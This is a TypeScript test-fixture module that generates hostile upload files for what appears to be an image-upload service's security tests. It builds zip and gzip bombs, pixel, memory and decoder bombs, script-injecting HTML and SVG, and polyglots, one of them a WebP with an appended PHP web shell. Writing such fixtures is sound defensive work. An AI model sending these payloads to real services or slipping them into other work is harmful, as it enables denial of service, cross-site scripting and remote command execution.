/** Files as attackers make them. Each is built from its parts, so that the problem is visible. */
import { constants, crc32, deflateRawSync, deflateSync, gzipSync, inflateRawSync } from 'node:zlib';
import sharp from 'sharp';

const latin1 = (text: string) => Buffer.from(text, 'latin1');

/** A small photo of noise, as sharp writes it. */
export function drawn(format: 'jpeg' | 'png' | 'webp' | 'avif' | 'gif'): Promise<Buffer> {
  const noise = { type: 'gaussian', mean: 128, sigma: 30 } as const;
  return sharp({ create: { width: 96, height: 64, channels: 3, background: '#888', noise } })
    .toFormat(format)
    .toBuffer();
}

/** A ZIP with one file in it. */
export function zip(name: string, content: Buffer): Buffer {
  const packed = deflateRawSync(content, { level: 9 });
  const facts = Buffer.alloc(26);
  facts.writeUInt16LE(20, 0);
  facts.writeUInt16LE(8, 4);
  facts.writeUInt32LE(crc32(content), 10);
  facts.writeUInt32LE(packed.length, 14);
  facts.writeUInt32LE(content.length, 18);
  facts.writeUInt16LE(name.length, 22);
  const local = Buffer.concat([latin1('PK\x03\x04'), facts, latin1(name), packed]);
  const central = Buffer.concat([
    ...[latin1('PK\x01\x02'), latin1('\x14\0'), facts.subarray(0, 24), Buffer.alloc(16), latin1(name)],
  ]);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(1, 4);
  end.writeUInt16LE(1, 6);
  end.writeUInt32LE(central.length, 8);
  end.writeUInt32LE(local.length, 12);
  return Buffer.concat([local, central, latin1('PK\x05\x06'), end]);
}

/** 64 MB of zeros, compressed to a thousandth. */
const nothing = () => Buffer.alloc(64 * 1024 ** 2);
export const zipBomb = (): Buffer => zip('bomb.txt', nothing());
export const gzipBomb = (): Buffer =>
  Buffer.concat(Array<Buffer>(16).fill(gzipSync(nothing(), { level: 9 })));

const script = '<script>window.attacked=document.URL;fetch("/sessionLogout",{method:"POST"})</script>';
export const page = latin1(`<!doctype html><title>x</title>${script}`);
export const svg = latin1(
  `<svg xmlns="http://www.w3.org/2000/svg" onload="window.attacked=1">${script}<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject></svg>`,
);

/** A file that is valid in two formats. */
export interface Polyglot {
  bytes: Buffer;
  /** The type that its first bytes suggest, and that an honest client declares. */
  type: string;
  /** The type that it should be mistaken for. */
  disguise: string;
}

export async function polyglots(): Promise<Record<string, Polyglot>> {
  const gif = await drawn('gif');
  const [jpeg, png] = [await drawn('jpeg'), await drawn('png')];
  const comment = (text: Buffer) => Buffer.concat([latin1('\xff\xfe'), sized(text), text]);
  const sized = (text: Buffer) => Buffer.from([(text.length + 2) >> 8, (text.length + 2) & 255]);
  return {
    // Its width is also the beginning of a comment that contains the picture.
    'GIF and JavaScript': {
      bytes: Buffer.concat([
        ...[latin1('GIF89a/*'), gif.subarray(8), latin1('*/=1;document.body.innerHTML="<script>"+name;')],
      ]),
      type: 'image/gif',
      disguise: 'text/javascript',
    },
    // The page is in a comment of the picture, which both programs skip.
    'JPEG and HTML': {
      bytes: Buffer.concat([jpeg.subarray(0, 2), comment(page), jpeg.subarray(2)]),
      type: 'image/jpeg',
      disguise: 'text/html',
    },
    'PNG and ZIP': {
      bytes: Buffer.concat([png, zip('index.html', page)]),
      type: 'image/png',
      disguise: 'application/java-archive',
    },
    'PDF and HTML': {
      bytes: Buffer.concat([latin1('%PDF-1.4\n%'), page, latin1('\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF')]),
      type: 'application/pdf',
      disguise: 'text/html',
    },
    'JPEG and PDF': {
      bytes: Buffer.concat([jpeg.subarray(0, 2), comment(latin1('%PDF-1.4\n')), jpeg.subarray(2)]),
      type: 'image/jpeg',
      disguise: 'application/pdf',
    },
    'WebP and PHP': {
      bytes: Buffer.concat([await drawn('webp'), latin1('<?php system($_GET["x"]); ?>')]),
      type: 'image/webp',
      disguise: 'application/x-httpd-php',
    },
  };
}

function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([latin1(type), data]);
  const framed = Buffer.alloc(body.length + 8);
  framed.writeUInt32BE(data.length, 0);
  body.copy(framed, 4);
  framed.writeUInt32BE(crc32(body), body.length + 4);
  return framed;
}

/** Inserts a chunk after the header of a PNG. */
const withChunk = (png: Buffer, chunk: Buffer) =>
  Buffer.concat([png.subarray(0, 33), chunk, png.subarray(33)]);

/** A valid picture: 7,200 × 7,200 pixels of one colour in 1.3 KB, made by sharp once. */
const largeAvif =
  'Y2BgkEkrqSxILMtMY2BgYMjNTDMEsXMzE0H8a7mpJYkMEKCYkZJTBGUzFGQmlzCgAaXMnPxkEMPFgYGRgREs9gtKM7DIMDAwKGdm5oGtAYuKZualpTJBeYllBoYgJl9BZkkuXElYZkFRAQMDg0VmQXI+AwMDT2KZoXOjPViTSGZxQSrEcBkFCGYQKMisyASJMHNwcDAwMIhlFuTC3M/IwMjcyMTMwMCikpuSWCLEwMVl/9nC/uC3CQIXMo26OQTknxzlvP///6PzBxoY1p8/pfWdld1AzvvGk0+N9+bEfRR917Fj4VKhrynvwpfLfM6+MCF0Rsayf1aSy7cdjmBJ3N4tXc63LLhCW3GzxZfFoeqr/tX7WF34b5y/r3kxzzqjoIWNyWcerDCdJjxpVcODT9e33EpiO+UZ/bv8TVf6+ereGWrZezsEww843H3yJHij/r74w/YXZpVF/lrZcr6J+eVePzdm9X6j95uWeZybvf+7HYNZ1EoHa1NWtar3N/T1ZNVWreJgWlBz/pR73VJtTYb5/L4TdGYf3OXIuffc+XV+ZsbGJ9Pa7/Yvrj685WtI/90baRnJvJOsYytvNwvKLi09W83JLv89L3S9jVPWqxfBFiZ7el+6xR6JYXvc6zFnw/yv3CE/eHRk4w5GP/nqeqX5xg6R6aEnHROuGk02cZlXf9/Orr3DL+nd5ASI7Vpndz92ndalFf7J43PHBpnLLhcvPLmwTD911qtXJ2Q3HhPIsvn9gSk/99mGF295LVrL+SsfrFNVn+LVyzwr6nTQ8ozpzTa2629OsEt8tmp2Rv5vG+ZEnm9BGR8czmoc4NQ6FOSv6fBhjvLCjb84Wdg9RXfe1br41M7wg0+3TUPx+VPuaUfnfp0XlzJr2pvXrzUP8xlxeDpyvauwnH2By0rVTs6M6dxpWzO+3eHxe5IUdvaFsLK6lV+puu/k0ZYzy1jdes1kVoGbGi7CPktNPqa1n3v3R7t2kZ/kEpuEND/P4wlWxyNNNt31sghbcIxf2HRh+927n8RX7h2BXi4fIC+H0NmzjwE=';

/** More than 50 million pixels by their headers, most with hardly any data. */
export const pixelBombs: Record<string, () => Promise<Buffer>> = {
  async 'PNG of 900 million pixels'() {
    const bomb = await drawn('png');
    bomb.writeUInt32BE(30_000, 16);
    bomb.writeUInt32BE(30_000, 20);
    bomb.writeUInt32BE(crc32(bomb.subarray(12, 29)), 29);
    return bomb;
  },
  async 'PNG of 60 million pixels, whole and true'() {
    const [width, height] = [10_000, 6_000];
    const head = Buffer.alloc(13);
    head.writeUInt32BE(width, 0);
    head.writeUInt32BE(height, 4);
    head.set([8, 2, 0, 0, 0], 8);
    return Buffer.concat([
      latin1('\x89PNG\r\n\x1a\n'),
      pngChunk('IHDR', head),
      pngChunk('IDAT', deflateSync(Buffer.alloc((width * 3 + 1) * height), { level: 9 })),
      pngChunk('IEND', Buffer.alloc(0)),
    ]);
  },
  async 'JPEG of 900 million pixels'() {
    const bomb = await drawn('jpeg');
    const frame = bomb.indexOf(Buffer.from([0xff, 0xc0]));
    bomb.writeUInt16BE(30_000, frame + 5);
    bomb.writeUInt16BE(30_000, frame + 7);
    return bomb;
  },
  async 'WebP of 268 million pixels'() {
    const bomb = await drawn('webp');
    const frame = bomb.indexOf(Buffer.from([0x9d, 0x01, 0x2a]));
    bomb.writeUInt16LE(16_383, frame + 3);
    bomb.writeUInt16LE(16_383, frame + 5);
    return bomb;
  },
  async 'lossless WebP of 268 million pixels'() {
    const bomb = await sharp(await drawn('png'))
      .webp({ lossless: true })
      .toBuffer();
    // 14 bits each for width and height, minus one.
    bomb.writeUInt32LE(0x0fff_ffff, bomb.indexOf('VP8L') + 9);
    return bomb;
  },
  async 'animated WebP on a canvas of 4 billion pixels'() {
    const bomb = Buffer.from(await animation('webp', 3));
    const canvas = bomb.indexOf('VP8X') + 12;
    bomb.writeUIntLE(65_534, canvas, 3);
    bomb.writeUIntLE(65_534, canvas + 3, 3);
    return bomb;
  },
  'AVIF of 52 million pixels, whole and true': async () => inflateRawSync(Buffer.from(largeAvif, 'base64')),
  async 'GIF of 900 million pixels'() {
    const bomb = await drawn('gif');
    const image = bomb.indexOf(Buffer.from([0x2c, 0, 0, 0, 0]));
    for (const at of [6, 8, image + 5, image + 7]) bomb.writeUInt16LE(30_000, at);
    return bomb;
  },
  async 'GIF with a frame of 900 million pixels on a small screen'() {
    const bomb = await drawn('gif');
    const image = bomb.indexOf(Buffer.from([0x2c, 0, 0, 0, 0]));
    for (const at of [image + 5, image + 7]) bomb.writeUInt16LE(30_000, at);
    return bomb;
  },
};

/** A valid picture: 7,000 × 7,000 pixels of one colour in 1.7 KB, made by sharp once. */
const detailedAvif =
  'Y2BgkEkrqSxILMtMY2BgYMjNTDMEsXMzE0H8a7mpJYkMEKCYkZJTBGUzFGQmlzCgAaXMnPxkEMPFgYGRgREs9gtKM7DOZ2BgUM7MzANbAxYVzcxLS2WC8hLLDAxBTL6CzJJcuJKwzIKiAgYGBovMguR8BgYGnsQyQ+dGe7AmkcziglSI4dIREMwgUJBZkQkSYebg4GBgYBDLLMiFuZ+RgZG5kYmZgYF1eW5KYokQAxeX/Wez9VvLJghcyDTq4xbe1HKMs31e5bMmhwaGaIbzZ1xOCvFyfd8Wfu2Od/fip/wNBcelIo9tmfTmp0n2Hl7vZYtuK09z/1feUbT/9Z/qeZoFvcYarWF1sffd35u+5bGNSpw/PXuN/OHnYck+V4/elRLeytq4qzFD/8Y+YY2puxnOnwl+pPIqVvTlQc0Dl89zsyzLuxJ6IcFtjcvLM/2LMx2dIxfn27XHTJ8dfNr8pIv4wi0yytvWtXBeWKnkImFlkbuTe+nXjurHSwJ1T755rys+cV6BlUO69TNOVgMdwfr9/7e51F5LStmetP66UNaL6Tah7Tn75vLuevLr5r/v1ZNXzz8fenK3bo/pnRj2KFPmPTkzP/KvetRsNkHrfKNMGY/Al3m7A3+oXNb3yLTvU1xp6vHXrmD22YZ99jskv0vamgZriRZUUs/1y+T3HGrrep9jKWtuabBx8iIW3q0ble48nmYVq31NdnPjHbHT85uWrD6f8r3QyCq/wJNn/mjIjcyQezBAIVfJxzGPwfnC6+tqrzxfFuSay0fdTXIX2rzybTdveNussGdcXapFX5/nfA5VVC22KHAz9X665vDp737Lo0pPr1JdkOlVX3dsfsxOed+042yNv5IjZ4Qe0PIwOyV7mHFfetBTDxbBy48Pf6o+rZKse2fG0Iue3WsOexdXaAiLfUo153q26tjbGRI+Lrw27A1Szh+C8+xdVvmtM9DMV/15wajw3+4i/ajrLEmXPU+Y1i7suLPzgX3m4yV/LpdqH/fRMBU3qpH68aj37xPR/VvnmrGeT/vnBwA=';

/** A zlib stream of this many megabytes of zeros, made without holding them in memory. */
function zippedZeros(megabytes: number): Buffer {
  const one = deflateRawSync(Buffer.alloc(1024 ** 2), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const sum = Buffer.alloc(4);
  sum.writeUInt16BE((megabytes * 1024 ** 2) % 65_521, 0);
  sum.writeUInt16BE(1, 2);
  return Buffer.concat([latin1('\x78\xda'), ...Array<Buffer>(megabytes).fill(one), latin1('\x03\0'), sum]);
}

/** A blank PNG that is valid except for a few extra bytes at its end. */
function emptyPng(
  width: number,
  height: number,
  [depth, colour, interlace]: [number, number, number],
): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([depth, colour, 0, 0, interlace], 8);
  const samples = colour === 6 ? 4 : 3;
  const bytes = (width * samples * (depth / 8) + 2) * height;
  return Buffer.concat([
    latin1('\x89PNG\r\n\x1a\n'),
    pngChunk('IHDR', head),
    pngChunk('IDAT', zippedZeros(Math.ceil(bytes / 1024 ** 2) + 1)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Fewer than 50 million pixels, and many times 100 MB for a decoder that reads all of it. */
export const memoryBombs: Record<string, () => Promise<Buffer>> = {
  'AVIF of 49 million pixels': async () => inflateRawSync(Buffer.from(detailedAvif, 'base64')),
  'interlaced PNG of 49 million pixels, 16 bits deep': async () => emptyPng(7000, 7000, [16, 6, 1]),
  'interlaced PNG of 49 million pixels': async () => emptyPng(7000, 7000, [8, 2, 1]),
  'PNG of very wide rows': async () => emptyPng(50_000, 900, [16, 6, 0]),
  async 'progressive JPEG of 36 million pixels'() {
    const bomb = await plain(64).jpeg({ progressive: true, chromaSubsampling: '4:4:4' }).toBuffer();
    const frame = bomb.indexOf(Buffer.from([0xff, 0xc2]));
    bomb.writeUInt16BE(6000, frame + 5);
    bomb.writeUInt16BE(6000, frame + 7);
    return bomb;
  },
  async 'GIF of 36 million pixels'() {
    const bomb = await drawn('gif');
    const image = bomb.indexOf(Buffer.from([0x2c, 0, 0, 0, 0]));
    for (const at of [6, 8, image + 5, image + 7]) bomb.writeUInt16LE(6000, at);
    return bomb;
  },
  async 'lossless WebP of 36 million pixels'() {
    const bomb = await plain(64).webp({ lossless: true }).toBuffer();
    bomb.writeUInt32LE(5999 | (5999 << 14), bomb.indexOf('VP8L') + 9);
    return bomb;
  },
};

/** Frames of one colour each, as an animation. */
async function animation(format: 'gif' | 'webp', pages: number): Promise<Buffer> {
  const [side, channels] = [64, 3] as const;
  const data = Buffer.alloc(side * side * pages * channels);
  for (let at = 0; at < pages; at += 1) data.fill(at * 40, at * side * side * channels);
  return sharp(data, { raw: { width: side, height: side * pages, channels, pageHeight: side } })
    .toFormat(format)
    .toBuffer();
}

const plain = (side: number) =>
  sharp({ create: { width: side, height: side, channels: 3, background: '#888' } });
const largeGif = () => plain(2000).gif().toBuffer();
const largeJpeg = () => plain(4000).jpeg({ progressive: true }).toBuffer();

/** Harmless photos of the same size as {@link decoderBombs}. */
export const honest = (): Promise<Buffer[]> => Promise.all([largeGif(), largeJpeg()]);

/** Small enough by their headers, but expensive for a decoder that reads everything. */
export const decoderBombs: Record<string, () => Promise<Buffer>> = {
  async 'GIF of 1,000 frames, 4 billion pixels together'() {
    const large = await largeGif();
    const image = large.indexOf(Buffer.from([0x2c, 0, 0, 0, 0]));
    const frame = large.subarray(image, -1);
    return Buffer.concat([large.subarray(0, image), ...Array<Buffer>(1000).fill(frame), latin1(';')]);
  },
  /** Text and colour profiles in a PNG are compressed: 256 MB of zeros in 260 KB. */
  async 'PNG with 256 MB of zipped text'() {
    const text = deflateSync(Buffer.alloc(256 * 1024 ** 2), { level: 9 });
    return withChunk(await drawn('png'), pngChunk('zTXt', Buffer.concat([latin1('Comment\0\0'), text])));
  },
  async 'PNG with a zipped colour profile of 256 MB'() {
    const profile = deflateSync(Buffer.alloc(256 * 1024 ** 2), { level: 9 });
    return withChunk(await drawn('png'), pngChunk('iCCP', Buffer.concat([latin1('x\0\0'), profile])));
  },
  /** Each scan makes a decoder process all 16 million pixels again. */
  async 'JPEG of 5,000 scans'() {
    const large = await largeJpeg();
    const scan = large.subarray(large.lastIndexOf(Buffer.from([0xff, 0xda])), -2);
    return Buffer.concat([large.subarray(0, -2), ...Array<Buffer>(5000).fill(scan), large.subarray(-2)]);
  },
};
